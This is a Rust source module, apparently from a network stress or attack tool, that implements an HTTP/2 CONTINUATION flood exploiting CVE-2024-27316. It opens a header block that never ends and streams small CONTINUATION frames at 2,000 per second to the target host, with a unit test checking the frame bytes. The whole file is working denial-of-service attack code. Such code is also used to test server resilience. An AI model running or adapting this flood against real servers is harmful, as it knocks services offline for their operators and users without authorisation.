//! A CONTINUATION flood (CVE-2024-27316): a header block that never ends, a small header
//! in each frame.

use super::frames::{self, CONTINUATION, HEADERS};
use super::talk::flood;
use super::wire::{Gone, Wire};

/// Frames a second.
const RATE: f64 = 2_000.0;
/// A literal that is not added to the dynamic table: `x-a: b`.
const HEADER: &[u8] = b"\x00\x03x-a\x01b";

pub async fn live(wire: Wire) -> Gone {
    let block = frames::post(wire.ground.path, &wire.ground.host);
    flood(wire, &[], RATE, move |number, out| write(number, &block, out)).await
}

fn write(number: u64, block: &[u8], out: &mut Vec<u8>) {
    match number {
        0 => frames::write(out, HEADERS, 0, 1, block),
        _ => frames::write(out, CONTINUATION, 0, 1, HEADER),
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn headers_do_not_end() {
        let mut out = Vec::new();
        super::write(0, b"\x83", &mut out);
        super::write(1, b"\x83", &mut out);
        let expected = b"\x00\x00\x01\x01\x00\x00\x00\x00\x01\x83\
            \x00\x00\x07\x09\x00\x00\x00\x00\x01\x00\x03x-a\x01b";
        assert_eq!(out, expected);
    }
}
